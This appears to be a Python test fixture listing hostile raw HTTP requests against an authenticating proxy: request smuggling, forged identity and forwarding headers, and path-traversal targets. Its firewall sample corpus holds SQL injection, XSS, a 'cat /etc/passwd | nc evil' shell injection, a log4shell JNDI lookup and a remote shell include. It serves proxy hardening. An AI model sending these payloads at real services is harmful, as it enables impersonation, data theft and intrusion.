"""Requests that mean to reach an API as somebody else, byte for byte as a hostile client writes them."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

SENTINEL = "203.0.113.66"
"""Whatever a client forges says this; nothing that reaches the upstream may."""


@dataclass(frozen=True)
class Facts:
    """What an attacker knows: where to go, one good key, and one more of another organisation."""

    host: str
    alice: str
    bob: str

    def head(self, target: str = "/v1/orders", *headers: str, method: str = "GET", version: str = "1.1") -> str:
        """Return a request's head with Alice's key, its last line still open."""
        lines = [f"{method} {target} HTTP/{version}", f"Host: {self.host}", f"Authorization: Bearer {self.alice}"]
        return "\r\n".join([*lines, *headers, ""])

    def stolen(self) -> str:
        """Return a request that is hidden in another one, and calls itself Bob."""
        return f"GET /v1/stolen HTTP/1.1\r\nHost: {self.host}\r\nHeldtrue-Subject: bob\r\nX-Real-IP: {SENTINEL}\r\n\r\n"


@dataclass(frozen=True)
class Attack:
    """Bytes to send, and whether an answer of 200 as Alice, who sent them, is good enough."""

    name: str
    make: Callable[[Facts], str]
    may_pass: bool = False
    """The proxy may also make it harmless and pass it on."""
    late: bool = False
    """Found only while the body is passed on: the upstream may have seen the head, as Alice's."""
    mute: bool = False
    """Its answer has no status line (HTTP/0.9)."""


def _hidden(*headers: str, body: str) -> Callable[[Facts], str]:
    return lambda it: it.head("/v1/orders", *headers, method="POST") + "\r\n" + body + it.stolen()


def _with(*headers: str, target: str = "/v1/orders", method: str = "GET") -> Callable[[Facts], str]:
    def make(it: Facts) -> str:
        filled = [header.format(alice=it.alice, bob=it.bob, host=it.host, no=SENTINEL) for header in headers]
        return it.head(target.format(host=it.host), *filled, "Connection: close", method=method) + "\r\n"

    return make


def _bare(*lines: str) -> Callable[[Facts], str]:
    """Return lines as they are; `{auth}` is Alice's whole header."""
    return lambda it: "".join(
        line.format(host=it.host, alice=it.alice, bob=it.bob, auth=f"Authorization: Bearer {it.alice}", no=SENTINEL)
        for line in lines
    )


def _lines(*lines: str) -> Callable[[Facts], str]:
    """Return a head of these lines, each ended as it should be."""
    return _bare(*(f"{line}\r\n" for line in lines), "\r\n")


def _credential(make: Callable[[str], str]) -> Callable[[Facts], str]:
    """Return a request with what *make* makes of Alice's key."""
    return lambda it: _lines("GET /v1/orders HTTP/1.1", "Host: {host}", f"Authorization: {make(it.alice)}")(it)


SMUGGLING = [
    Attack("cl-te", _hidden("Content-Length: 5", "Transfer-Encoding: chunked", body="0\r\n\r\n"), may_pass=True),
    Attack("te-cl", _hidden("Transfer-Encoding: chunked", "Content-Length: 3", body="0\r\n\r\n"), may_pass=True),
    Attack("two lengths", _hidden("Content-Length: 0", "Content-Length: 60", body="")),
    Attack("length list", _hidden("Content-Length: 0, 60", body="")),
    Attack("length with a sign", _hidden("Content-Length: +0", body="")),
    Attack("negative length", _hidden("Content-Length: -1", body="")),
    Attack("te tab", _hidden("Transfer-Encoding:\tchunked", body="0\r\n\r\n"), may_pass=True),
    Attack("te unknown", _hidden("Transfer-Encoding: xchunked", body="0\r\n\r\n")),
    Attack("te twice", _hidden("Transfer-Encoding: chunked", "Transfer-Encoding: identity", body="0\r\n\r\n")),
    Attack("te list", _hidden("Transfer-Encoding: identity, chunked", body="0\r\n\r\n")),
    Attack("te space before colon", _hidden("Transfer-Encoding : chunked", body="0\r\n\r\n")),
    Attack("te vertical tab", _hidden("Transfer-Encoding: \x0bchunked", body="0\r\n\r\n")),
    Attack("te on a folded line", _hidden("X: y", " Transfer-Encoding: chunked", body="0\r\n\r\n"), may_pass=True),
    Attack(
        "chunk size overflow",
        _hidden("Transfer-Encoding: chunked", body="ffffffffffffffff1\r\n\r\n0\r\n\r\n"),
        late=True,
    ),
    Attack("chunk size of no digits", _hidden("Transfer-Encoding: chunked", body="zz\r\n\r\n0\r\n\r\n"), late=True),
    Attack("bare line feeds", _bare("GET /v1/orders HTTP/1.1\nHost: {host}\n{auth}\nConnection: close\n\n"), True),
    Attack("bare carriage return", _lines("GET /v1/orders HTTP/1.1", "Host: {host}", "X: a\rHeldtrue-Subject: bob")),
    Attack("folded credential", _lines("GET /v1/orders HTTP/1.1", "Host: {host}", "X: y", " {auth}"), True),
    Attack("space before colon", _lines("GET /v1/orders HTTP/1.1", "Host: {host}", "Authorization : Bearer {alice}")),
    Attack("space before the first header", _lines("GET /v1/orders HTTP/1.1", " Host: {host}", "{auth}")),
    Attack("no version", _lines("GET /v1/orders", "Host: {host}", "{auth}"), mute=True),
    Attack("version 1.9", _lines("GET /v1/orders HTTP/9.9", "Host: {host}", "{auth}")),
    Attack("two hosts", _lines("GET /v1/orders HTTP/1.1", "Host: {host}", "Host: other", "{auth}")),
    Attack("no host", _lines("GET /v1/orders HTTP/1.1", "{auth}")),
    Attack(
        "another host",
        _lines("GET /v1/orders HTTP/1.1", "Host: other.example.com", "{auth}", "Connection: close"),
    ),
    Attack("h2c upgrade", _with("Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA"), may_pass=True),
    Attack("http/2 preface", _lines("PRI * HTTP/2.0", "", "SM")),
    Attack("connect", _with(method="CONNECT", target="127.0.0.1:22")),
    Attack("trace", _with(method="TRACE")),
]
IDENTITY = [
    *(
        Attack(f"identity as {name}", _with(f"{name}: bob"))
        for name in ("Heldtrue-Subject", "heldtrue-tenant", "HELDTRUE-IDENTITY", "hElDtRuE-sCoPeS", "Heldtrue-Anything")
    ),
    *(
        Attack(f"identity as {name}", _with(f"{name}: bob"), may_pass=True)
        for name in (
            "Heldtrue_Subject",
            "HELDTRUE_TENANT",
            "heldtrue-key_type",
            "Heldtrue.Subject",
            "Heldtrue-Subject\x00",
        )
    ),
    Attack("status of a door", _with("Heldtrue-Status: 200", "Heldtrue-Problem: {{}}")),
    Attack("drop the identity on the way", _with("Connection: Heldtrue-Identity, Heldtrue-Subject"), may_pass=True),
    Attack("two credentials", _with("Authorization: Bearer {bob}")),
    Attack("two credentials, the second empty", _with("Authorization: ")),
    Attack(
        "credential with an underscore",
        _lines("GET /v1/orders HTTP/1.1", "Host: {host}", "Authorization_: Bearer {bob}"),
    ),
    Attack("no credential", _lines("GET /v1/orders HTTP/1.1", "Host: {host}")),
    Attack(
        "websocket without a credential",
        _lines(
            "GET /v1/ws HTTP/1.1",
            "Host: {host}",
            "Connection: Upgrade",
            "Upgrade: websocket",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        ),
    ),
    Attack("HTTP/1.0 without a credential", _lines("GET /v1/orders HTTP/1.0", "Host: {host}")),
    Attack("HTTP/1.0 without a host", _lines("GET /v1/orders HTTP/1.0", "{auth}")),
    Attack("key in lower case", _credential(lambda key: "Bearer " + key.lower())),
    Attack("key in upper case", _credential(lambda key: "Bearer " + key.upper())),
    Attack("key with a blank", _credential(lambda key: "Bearer " + key[:20] + " " + key[20:])),
    Attack(
        "scheme in upper case",
        _lines("GET /v1/orders HTTP/1.1", "Host: {host}", "Authorization: BEARER {alice}", "Connection: close"),
        True,
    ),
    Attack("scheme Basic", _lines("GET /v1/orders HTTP/1.1", "Host: {host}", "Authorization: Basic {alice}")),
]
FORWARDING = [
    *(
        Attack(f"forged {name}", _with(f"{name}: {{no}}"), may_pass=True)
        for name in (
            "X-Forwarded-For",
            "X-Forwarded-Host",
            "X-Forwarded-Proto",
            "X-Forwarded-Port",
            "X-Forwarded-Server",
            "X-Forwarded-Uri",
            "X-Forwarded-Method",
            "X-Real-IP",
            "X-Original-URI",
            "X-Original-URL",
            "X-Original-Method",
            "X-Original-Host",
            "X-Rewrite-URL",
            "X-Client-IP",
            "True-Client-IP",
            "CF-Connecting-IP",
            "X-HTTP-Method-Override",
            "X-HTTP-Method",
            "X-Method-Override",
            "X_Forwarded_For",
            "Proxy",
        )
    ),
    Attack("forged Forwarded", _with("Forwarded: for={no};host={no};proto=http"), may_pass=True),
    Attack(
        "chain of X-Forwarded-For", _with("X-Forwarded-For: {no}, 127.0.0.1", "X-Forwarded-For: {no}"), may_pass=True
    ),
    Attack("open the forbidden by X-Original-URI", _with("X-Original-URI: /v1/orders", target="/forbidden")),
    Attack("open the forbidden by X-Forwarded-Uri", _with("X-Forwarded-Uri: /v1/orders", target="/forbidden")),
    Attack("open the forbidden by X-Rewrite-URL", _with("X-Rewrite-URL: /v1/orders", target="/forbidden")),
]
TARGETS = [
    *(
        Attack(f"target {target}", _with(target=target))
        for target in (
            "/v1/../forbidden",
            "/v1/%2e%2e/forbidden",
            "/v1/%2E%2E%2fforbidden",
            "/v1/..%2fforbidden",
            "/v1/.%2e/forbidden",
            "/v1%2f..%2fforbidden",
            "/v1/..%5cforbidden",
            "/v1/\\..\\forbidden",
            "//forbidden",
            "/v1//orders",
            "/v1/./orders",
            "/v1/..;/forbidden",
            "/v1;/../forbidden",
            "/v1/orders;a=b",
            "/v1/orders%00",
            "/v1/%zz",
            "/v1/%",
            "*",
            "v1/orders",
            "/v1/orders\x01",
            "/v1/orders\x7f",
            "/.heldtrue/door",
            "/.heldtrue/./door",
            "/auth/nginx",
            "/forbidden",
            "http://other.example.com/v1/orders",
        )
    ),
    *(
        Attack(f"target {target!r}", _with(target=target), may_pass=True)
        for target in (
            "/v1/\xff\xfe",
            "/v1/\xc3\xa9",
            "/v1/orders?a=\xff",
            "/v1/orders#x",
            "http://{host}/v1/orders",
            "https://{host}/v1/orders",
        )
    ),
    Attack("control byte in a header", _with("X: a\x01b"), may_pass=True),
    Attack("zero byte in a header", _with("X: a\x00b")),
    Attack("zero byte in a name", _with("X\x00Y: b")),
    Attack("invalid UTF-8 in a header", _with("X: \xff\xfe"), may_pass=True),
    Attack(
        "invalid UTF-8 in the credential",
        _lines("GET /v1/orders HTTP/1.1", "Host: {host}", "Authorization: Bearer \xff{alice}"),
    ),
    Attack("header of 20 KiB", _with("X: " + "a" * 20_480)),
    Attack("request line of 20 KiB", _with(target="/v1/" + "a" * 20_480)),
    Attack("two hundred headers of 200 bytes", _with(*[f"X-{n}: {'a' * 200}" for n in range(200)])),
    Attack("body too large", _with("Content-Length: 200000", "Expect: 100-continue", method="POST")),
    Attack(
        "chunks too large", _hidden("Transfer-Encoding: chunked", body=f"4000\r\n{'a' * 0x4000}\r\n" * 6), late=True
    ),
]
ATTACKS = {"smuggling": SMUGGLING, "identity": IDENTITY, "forwarding": FORWARDING, "targets": TARGETS}
CORPUS = {
    "sql in the query": ("GET", "/v1/orders?id=1'%20OR%20'1'='1'--%20", ""),
    "union select": ("GET", "/v1/orders?id=1%20UNION%20SELECT%20password%20FROM%20users", ""),
    "sql in JSON": ("POST", "/v1/orders", '{"name": "x\'; DROP TABLE orders; --", "q": "1 OR 1=1 UNION SELECT 1,2"}'),
    "script in the query": ("GET", "/v1/orders?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", ""),
    "script in JSON": ("POST", "/v1/orders", '{"name": "<script>alert(1)</script>"}'),
    "traversal in the query": ("GET", "/v1/orders?file=../../../../etc/passwd", ""),
    "shell": ("GET", "/v1/orders?host=;cat%20/etc/passwd%7Cnc%20evil", ""),
    "log4shell": ("GET", "/v1/orders?q=$%7Bjndi:ldap://evil/x%7D", ""),
    "remote file": ("GET", "/v1/orders?page=http://203.0.113.66/shell.txt%3F", ""),
    "php": ("GET", "/v1/orders?x=%3C?php%20system('id');?%3E", ""),
}
"""Samples of what the core rule set knows; each is sent with a good credential."""
